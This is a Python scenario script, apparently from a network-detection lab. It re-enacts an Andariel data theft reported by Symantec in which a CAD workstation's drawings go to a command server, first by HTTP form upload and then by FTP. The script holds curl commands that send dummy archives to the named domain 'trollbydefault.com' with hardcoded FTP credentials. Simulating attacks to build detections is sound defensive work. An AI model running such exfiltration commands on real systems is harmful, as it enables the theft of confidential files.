# SPDX-License-Identifier: Apache-2.0
"""Andariel: drawings leave a manufacturer, first as a web form, then by FTP, both in the clear and both
to the same name. Name: Symantec, October 2024."""

START = "2024-10-02 18:44:02"
LAN = "10.27.8.0/24"
C2 = "trollbydefault.com"
SHOWS = {"dns": [C2], "sni": [], "host": [C2]}


def play(lab):
    design = lab.host("cad-station", 90)
    lab.public("203.0.113.90")
    lab.names.address(C2, "203.0.113.90")
    lab.serve(lab.internet, "collector.js", 80, tcp=80)
    lab.serve(lab.internet, "ftpd.py", lab.folder, "anders", "q1w2e3", tcp=21)
    form = lab.file("turbine-drawings.7z", lab.bytes(9000, b"7z\xbc\xaf\x27\x1c"))
    more = lab.file("test-reports.zip", lab.bytes(7000, b"PK\x03\x04"))
    with lab.recording():
        lab.curl(design, "-A", "", f"http://{C2}/index.php")
        lab.later(minutes=7)
        lab.curl(design, "-A", "", "-F", f"file=@{form}", f"http://{C2}/index.php")
        lab.later(minutes=9)
        lab.curl(design, "-T", more, "--user", "anders:q1w2e3", f"ftp://{C2}/up-1.zip")
